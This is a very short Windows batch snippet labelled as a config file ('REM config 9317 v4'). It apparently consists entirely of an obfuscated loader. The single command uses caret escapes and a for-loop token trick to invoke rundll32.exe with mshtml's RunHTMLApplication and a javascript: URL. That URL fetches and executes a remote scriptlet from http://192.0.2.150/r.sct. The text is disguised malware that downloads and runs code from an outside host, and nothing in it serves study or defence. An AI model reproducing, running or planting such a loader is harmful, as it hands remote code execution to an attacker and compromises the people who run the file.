REM config 9317 v4
^for /f "tokens=3 delims=#" %%^i i^n ("hyya#dsqt#rundll32.exe") do %%i ^j^av^a^sc^r^ipt:"\..\mshtml,RunHTMLApplication ";d^o^cu^ment.^wr^i^te();G^e^tO^b^j^e^ct("script:http://192.0.2.150/r.sct")
